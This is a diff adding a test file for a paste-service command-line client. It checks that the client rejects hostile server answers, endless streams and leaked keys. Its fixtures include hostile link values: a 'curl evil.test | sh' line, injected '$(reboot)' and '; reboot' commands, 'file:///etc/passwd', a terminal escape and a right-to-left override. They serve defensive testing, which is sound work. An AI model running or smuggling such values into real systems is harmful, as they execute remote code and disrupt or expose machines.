@@ -1,0 +1,150 @@
+import { afterAll, describe, expect, test } from 'bun:test';
+import { createClient } from '#client/index.ts';
+import { startTestApp } from '../support/app.ts';
+import { clientOf } from '../support/client.ts';
+import { removeFolders } from '../support/folders.ts';
+import { type Person, pasteCommands } from '../support/paste-commands.ts';
+
+const app = await startTestApp();
+const { run } = pasteCommands(app);
+afterAll(async () => {
+  await app.close();
+  removeFolders();
+});
+
+const failureOf = (work: Promise<unknown>): Promise<unknown> =>
+  work.then(
+    (value) => ({ succeeded: value }),
+    (error) => error,
+  );
+
+/** A client of a server that gives this answer to everything. */
+const clientOfAnswer = (answer: () => Response) =>
+  createClient({ ...clientOf(app, answer(), answer(), answer(), answer()).options, key: 'gp_x' });
+/** A command whose server gives this answer. */
+const runAgainst = (answer: Response, args: string[], person: Person = {}) => run(args, person, answer);
+
+const created = (url: unknown) =>
+  Response.json({ id: '8chars00', url, raw: 'https://paste.test/raw/8chars00' }, { status: 201 });
+const LIES = { error: { code: 'VALIDATION_FAILED', message: 'No.', details: { content: 5 } } };
+
+describe('a hostile or broken server', () => {
+  test.each([
+    'https://paste.test/p/8chars00\ncurl evil.test | sh\n',
+    'https://paste.test/$(reboot)',
+    'https://paste.test/p/8chars00 ; reboot',
+    "https://paste.test/p/8chars00'",
+    'https://paste.test/\x1b]52;c;ZWNobw==\x07',
+    'https://paste.test/\u202egpj.exe',
+    'javascript:alert(1)',
+    'file:///etc/passwd',
+    `https://paste.test/${'x'.repeat(5_000)}`,
+    5,
+    null,
+  ])('names no link %j that is printed, copied or opened', async (url) => {
+    const tools: string[][] = [];
+    const runTool = async (command: string[], input: string) => {
+      tools.push([...command, input]);
+      return true;
+    };
+    const person = { input: 'x', environment: { DISPLAY: ':0' }, context: { runTool } };
+    const { code, out, err } = await runAgainst(created(url), ['put', '--copy', '--open', '--qr'], person);
+    expect({ code, out, tools }).toEqual({ code: 1, out: '', tools: [] });
+    expect(err).toContain('did not answer as a Gluepot server does');
+  });
+
+  test.each([
+    ['nothing', {}],
+    ['null', { data: null }],
+    ['an array', []],
+    ['a list without pages', { data: [], meta: {} }],
+    ['other fields', { data: [{ id: 5, title: {} }], meta: { page: 1, per_page: 1, total: 1, pages: 1 } }],
+  ])('that answers %s is not taken for a Gluepot server', async (_, body) => {
+    const client = clientOfAnswer(() => Response.json(body));
+    for (const work of [client.listPastes(), client.readPaste('8chars00'), client.readStatistics()])
+      expect(await failureOf(work)).toMatchObject({ code: 'UNEXPECTED_RESPONSE' });
+  });
+
+  test('cannot make a list go on forever with a number of pages', async () => {
+    const meta = { page: 1, per_page: 100, total: 1e9, pages: 1e9 };
+    const { options, requests } = clientOf(app, Response.json({ data: [], meta }));
+    const pastes = await Array.fromAsync(createClient({ ...options, key: 'gp_x' }).eachPaste());
+    expect([pastes.length, requests.length]).toEqual([0, 1]);
+  });
+
+  test('cannot fill the memory with an answer that does not end', async () => {
+    let sent = 0;
+    let isCancelled = false;
+    const endless = new ReadableStream<Uint8Array>({
+      pull(controller) {
+        controller.enqueue(new Uint8Array(1024 * 1024).fill(97));
+        sent++;
+      },
+      cancel() {
+        isCancelled = true;
+      },
+    });
+    const error = await failureOf(clientOfAnswer(() => new Response(endless)).openRaw('8chars00'));
+    expect(error).toMatchObject({ code: 'UNEXPECTED_RESPONSE' });
+    expect({ isCancelled, isBounded: sent < 20 }).toEqual({ isCancelled: true, isBounded: true });
+  });
+
+  test('cannot flood the terminal with a long error', async () => {
+    const error = { code: 'BAD_REQUEST', message: 'a'.repeat(1_000_000) };
+    const { err } = await runAgainst(Response.json({ error }, { status: 400 }), ['put'], { input: 'x' });
+    expect(err.length).toBeLessThan(1_100);
+  });
+
+  test.each([
+    ['details that are no texts', LIES],
+    ['details that are null', { error: { ...LIES.error, details: null } }],
+  ])('whose error has %s makes no bug of ours', async (_, body) => {
+    const { code, err } = await runAgainst(Response.json(body, { status: 422 }), ['put'], { input: 'x' });
+    expect({ code, err }).toEqual({ code: 1, err: expect.stringContaining('(status 422)') });
+  });
+
+  test('cannot replace the link in the JSON of put, nor hide a character in it', async () => {
+    const url = 'https://paste.test/p/8chars00';
+    const answer = Response.json({ id: '8\u202e', url, raw: url, link: 'javascript:1' }, { status: 201 });
+    const { out } = await runAgainst(answer, ['put', '--json'], { input: 'x' });
+    expect(out).toContain('"id":"8\\u202e"');
+    expect(JSON.parse(out)).toMatchObject({ id: '8\u202e', link: url });
+  });
+
+  test('gets no key through an invalid certificate, and is asked only once', async () => {
+    let requests = 0;
+    const fetch = async () => {
+      requests++;
+      throw Object.assign(new Error('certificate has expired'), { code: 'CERT_HAS_EXPIRED' });
+    };
+    const error = await failureOf(createClient({ ...clientOf(app).options, fetch }).openRaw('8chars00'));
+    const message = expect.stringContaining(
+      'certificate of http://paste.test is not valid (CERT_HAS_EXPIRED)',
+    );
+    expect([error, requests]).toMatchObject([{ message, maybeSent: false }, 1]);
+  });
+});
+
+describe('a secret that was put in the wrong place', () => {
+  const SECRET = 'gp_secret';
+
+  test('is in no error: a key of several lines', async () => {
+    expect(() => createClient({ server: 'http://paste.test', key: `${SECRET}\nx` })).toThrow('Invalid key');
+    const environment = { GLUEPOT_KEY: `${SECRET}\nx` };
+    const listed = await run(['ls'], { environment });
+    const loggedIn = await run(['login', 'http://paste.test'], { input: `${SECRET}\nx` });
+    expect([listed.code, loggedIn.code]).toEqual([2, 1]);
+    expect(listed.err + loggedIn.err).not.toContain(SECRET);
+  });
+
+  test.each([
+    'http://user:gp_secret@paste.test',
+    'http://:gp_secret@paste.test',
+    'user:gp_secret@paste.test',
+  ])('is in no error: the address %s', async (server) => {
+    const { code, out, err } = await run(['whoami', '--server', server]);
+    expect({ code, out }).toEqual({ code: 2, out: '' });
+    expect(err).toContain('Invalid server');
+    expect(err).not.toContain(SECRET);
+  });
+});
